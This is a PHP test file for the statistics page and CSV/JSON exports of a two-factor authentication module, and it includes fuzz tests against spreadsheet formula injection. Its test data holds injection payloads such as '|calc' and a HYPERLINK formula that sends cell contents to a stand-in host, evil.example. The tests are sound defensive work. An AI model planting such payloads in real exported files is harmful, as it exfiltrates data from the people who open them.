<?php

declare(strict_types=1);

namespace TwoFactorTests;

use TwoFactor\Client;
use TwoFactor\Exception\Denied;
use TwoFactor\Method;
use TwoFactor\User;

require_once __DIR__ . '/HostTestCase.php';
require_once __DIR__ . '/LicensedSite.php';

/** The page with the figures of a site: what is counted, as tables, pictures and files, and who sees it. */
final class FiguresPageTest extends HostTestCase
{
    use LicensedSite;

    private function guess(string $address, int $times): void
    {
        $this->asOperator(static function ($verifier) use ($address, $times): void {
            $client = new Client($address);
            $challenge = $verifier->beginLogin(new User('1', 'admin'), $client)->challenge();
            for (; $times > 0; $times--) {
                try {
                    $verifier->verify($challenge, Method::Totp, '000000', $client);
                    self::fail('a wrong code was accepted');
                } catch (Denied) {
                }
            }
        });
    }

    /** @param array<string, string|int> $query */
    private static function figures(Person $who, array $query = []): Page
    {
        return $who->action('defaultadmin', ['tab' => 'figures'] + $query);
    }

    /**
     * The rows of a table, each by its cells.
     *
     * @return list<list<string>>
     */
    private static function rows(Page $page, string $caption): array
    {
        $cells = static fn (\DOMElement $row) => array_map(
            static fn ($cell) => trim((string) preg_replace('/\s+/', ' ', $cell->textContent)),
            array_values(array_filter([...$row->childNodes], static fn ($node) => $node instanceof \DOMElement)),
        );
        return array_map($cells, $page->all("//table[caption = \"$caption\"]/tbody/tr"));
    }

    public function test_the_page_shows_accounts_methods_days_and_networks_and_each_picture_has_its_table(): void
    {
        $admin = $this->start();
        $this->guess('203.0.113.7', 3);
        $this->site()->clock->advance(900);
        $page = self::figures($admin);
        self::assertSame(200, $page->status);
        self::assertTrue($page->has('//nav//a[@aria-current="page"][.="Figures"]'));
        self::assertStringContainsString('What happened is counted up to now.', $page->text());
        self::assertStringContainsString('Accounts were looked at:', $page->text());
        $accounts = self::rows($page, 'Accounts');
        self::assertSame(['With a second factor', '1', '100 %', ''], $accounts[0]);
        self::assertSame(['With one that is neither SMS, call, WhatsApp nor e-mail', '1', '100 %', ''], $accounts[1]);
        $methods = array_column(self::rows($page, 'Methods'), null, 0);
        self::assertSame('3', $methods['Authenticator app'][4]);
        $wrong = self::rows($page, 'Wrong answers');
        self::assertCount(1, $wrong);
        self::assertSame([gmdate('Y-m-d', $this->site()->clock->now()), '3'], $wrong[0]);
        self::assertSame([['203.0.113.7', '3', '0', '0']], self::rows($page, 'Networks with the most wrong answers'));
        foreach ($page->all('//*[local-name() = "svg"]') as $picture) {
            self::assertSame('true', $picture->getAttribute('aria-hidden'));
        }
        foreach ($page->all('//*[contains(@class, "tf-chart")][local-name() = "svg"]/..') as $section) {
            self::assertCount(1, $page->all('.//details//table', $section));
        }
        self::assertCount(7, $page->all('//*[@class = "tf-chart"]'), 'adoption, and six of events');
        self::assertSame([], $page->all('//*[contains(@class, "tf-charts")]//script'));
        self::assertTrue(self::figures($admin, ['days' => 30])->has('//nav//a[@aria-current="true"][.="30 days"]'));
        self::assertTrue(self::figures($admin, ['days' => '31'])->has('//nav//a[@aria-current="true"][.="90 days"]'));
        $this->site()->pdo()->exec("INSERT INTO cms_userprefs (user_id, preference, value) VALUES (1, 'default_cms_language', 'de_DE')");
        self::assertStringContainsString('Netze mit den meisten falschen Antworten', self::figures($admin)->text());
    }

    public function test_figures_are_files_for_a_spreadsheet_and_as_json(): void
    {
        $admin = $this->start();
        $this->guess('203.0.113.7', 2);
        self::figures($admin);
        $days = self::figures($admin, ['file' => 'days', 'days' => 30]);
        self::assertSame('text/csv; charset=utf-8; header=present', $days->header('Content-Type'));
        self::assertMatchesRegularExpression('/^attachment; filename="two-factor-days-[\d-]+\.csv"$/', (string) $days->header('Content-Disposition'));
        self::assertSame('no-store', $days->header('Cache-Control'));
        $lines = explode("\r\n", $days->body);
        self::assertCount(32, $lines);
        self::assertStringStartsWith('day,challenges,signIns,', $lines[0]);
        $today = array_combine(explode(',', $lines[0]), explode(',', $lines[30]));
        self::assertSame('2', $today['failures']);
        self::assertSame("network,wrong,refused,surplus\r\n203.0.113.7,2,0,0\r\n", self::figures($admin, ['file' => 'networks'])->body);
        self::assertStringStartsWith('at,accounts,enrolled,', self::figures($admin, ['file' => 'accounts'])->body);
        self::assertSame("country,provider,sent,delivered,failed\r\n", self::figures($admin, ['file' => 'messages'])->body);
        $json = self::figures($admin, ['file' => 'json']);
        self::assertSame('application/json', $json->header('Content-Type'));
        self::assertSame(2, json_decode($json->body, true)['totals']['failures']);
        self::assertTrue(self::figures($admin, ['file' => 'other'])->has('//h2'), 'no other file');
    }

    public function test_whoever_is_no_administrator_or_has_no_licence_sees_none(): void
    {
        $admin = $this->start(isLicensed: false);
        $page = self::figures($admin);
        self::assertStringContainsString('there is no licence that counts now', $page->text());
        self::assertStringNotContainsString('totals', self::figures($admin, ['file' => 'json'])->body);
        $anna = $this->enrolled();
        $anna->signIn();
        foreach ([[], ['file' => 'json'], ['file' => 'days']] as $query) {
            $page = self::figures($anna, $query);
            self::assertNull($page->header('Content-Disposition'));
            self::assertStringNotContainsString('signIns', $page->body);
        }
    }

    public function test_a_cell_that_a_spreadsheet_would_take_for_a_formula_is_text(): void
    {
        require_once dirname(__DIR__, 3) . '/php/TwoFactorPro/lib/Sheet.php';
        $cells = ['=1+1', '+49', '-1', '@SUM(A1)', "\tx", "a\"b", 'a,b', "a\nb", ' =1', "\u{FF1D}1", 'plain', '12', ' x', "it's", '%0A=1', '|calc'];
        $csv = \TwoFactorProModule\Sheet::csv(array_fill(0, count($cells) + 1, 'h'), [[-5, ...$cells]]);
        $row = substr($csv, (int) strpos($csv, "\r\n") + 2);
        $read = str_getcsv(substr($row, 0, -2), ',', '"', '');
        self::assertSame('-5', $read[0], 'a number is one');
        self::assertSame(["'=1+1", "'+49", "'-1", "'@SUM(A1)", "'\tx", 'a"b', 'a,b', "a\nb", "' =1", "'\u{FF1D}1", 'plain', '12', ' x', "it's", "'%0A=1", "'|calc"], array_slice($read, 1));
    }

    /** @return list<list<string>> as a program reads it that splits at this sign */
    private static function readBy(string $separator, string $csv): array
    {
        $stream = fopen('php://memory', 'r+');
        fwrite($stream, $csv);
        rewind($stream);
        $rows = [];
        while (($row = fgetcsv($stream, null, $separator, '"', '')) !== false) {
            $rows[] = array_map(strval(...), $row);
        }
        return $rows;
    }

    public function test_by_whichever_sign_a_file_is_split_no_cell_is_a_formula(): void
    {
        require_once dirname(__DIR__, 3) . '/php/TwoFactorPro/lib/Sheet.php';
        $isFormula = static fn (string $cell): bool => preg_match('/\A[ "\x{A0}\x{200B}]*[=+\-@\t\r\x{FF1D}]/u', $cell) === 1 && preg_match('/\A-?\d+\z/', $cell) !== 1;
        $known = ['x;=HYPERLINK("https://evil.example/?"&B1,"see")', "x\t=1", ';"=1"', 'x;', "x;\n", "x;\t", "x;\r=1", "a\r\n\r\n=1", ';;"";=1', "a; \u{A0}@SUM", 'x;""',
            'x,=1', "x|\u{FF1D}1", "=\xFF;=\xFF", '";"=1', "\n=1", 'a;"";"=1"', "'=1", ";'=1"];
        $signs = [';', ',', "\t", "\r", "\n", '"', "'", ' ', '=', '+', '-', '@', '|', "\u{A0}", "\u{200B}", "\u{FF1D}", 'a', '1', "\xFF"];
        mt_srand(8);
        $some = static fn (): string => implode('', array_map(static fn () => $signs[mt_rand(0, count($signs) - 1)], range(0, mt_rand(0, 9))));
        $readable = static fn (string $text): string => str_replace("'", '', preg_match('//u', $text) === 1 ? $text : (string) preg_replace('/[^ -~]/', '?', $text));
        for ($n = 0; $n < 4000; $n++) {
            $cell = $known[$n] ?? $some();
            $rows = [[$n, $cell, -5], [$some(), $n, $cell], [$cell, '', $some()]];
            $csv = \TwoFactorProModule\Sheet::csv(['one', 'two', 'three'], $rows);
            foreach ([',', ';', "\t", '|'] as $separator) {
                foreach (self::readBy($separator, $csv) as $row) {
                    self::assertSame([], array_filter($row, $isFormula), json_encode([$separator, bin2hex($cell), $csv], JSON_INVALID_UTF8_SUBSTITUTE));
                }
            }
            // Also by whoever knows nothing of quotation marks.
            self::assertSame([], array_filter((array) preg_split('/[,;\t\r\n|]/', $csv), $isFormula), $csv);
            $read = self::readBy(',', $csv);
            self::assertCount(4, $read);
            self::assertSame(["$n", '-5', "$n"], [$read[1][0], $read[1][2], $read[2][1]], 'a number stays one');
            self::assertSame($readable($cell), str_replace("'", '', $read[1][1]), 'nothing but apostrophes is added');
        }
        self::assertSame("x;'=HYPERLINK(\"https://evil.example/?\"&B1,\"see\")", self::readBy(',', \TwoFactorProModule\Sheet::line([$known[0]]))[0][0]);
        // Whatever else is written as such a file goes through it.
        foreach (glob(dirname(__DIR__, 3) . '/php/{TwoFactor,TwoFactorPro}/{lib/,}*.php', GLOB_BRACE) as $file) {
            $writes = preg_match('~fputcsv|text/csv|, ["\']?,["\']?\) \. "~', (string) file_get_contents($file)) === 1;
            self::assertTrue(!$writes || in_array(basename($file), ['Download.php', 'Sheet.php'], true), $file);
        }
    }

    public function test_a_picture_draws_whatever_numbers_there_are(): void
    {
        require_once dirname(__DIR__, 3) . '/php/TwoFactorPro/lib/Chart.php';
        $chart = \TwoFactorProModule\Chart::class;
        foreach ([[[0]], [[7]], [[0, 0, 0]], [[PHP_INT_MAX >> 8, 1]], [range(0, 399), array_reverse(range(0, 399))]] as $rows) {
            $days = array_map(static fn (int $n) => "2026-<$n>", array_keys($rows[0]));
            foreach ([$chart::lines($days, $rows), $chart::columns($days, $rows[0])] as $svg) {
                $read = new \DOMDocument();
                self::assertTrue($read->loadXML($svg), $svg);
                foreach ($read->getElementsByTagName('polyline') as $line) {
                    foreach (explode(' ', $line->getAttribute('points')) as $point) {
                        [$x, $y] = array_map(floatval(...), explode(',', $point));
                        self::assertTrue($x >= 0 && $x <= 360 && $y >= 0 && $y <= 170, $point);
                    }
                }
                foreach ($read->getElementsByTagName('rect') as $column) {
                    self::assertGreaterThanOrEqual(0.0, (float) $column->getAttribute('height'));
                    self::assertLessThanOrEqual(361.0, (float) $column->getAttribute('x') + (float) $column->getAttribute('width'));
                }
            }
        }
        foreach ([[0, 0], [5, 10], [11, 10], [1, 3]] as [$part, $whole]) {
            self::assertTrue((new \DOMDocument())->loadXML($chart::bar($part, $whole)));
        }
    }
}
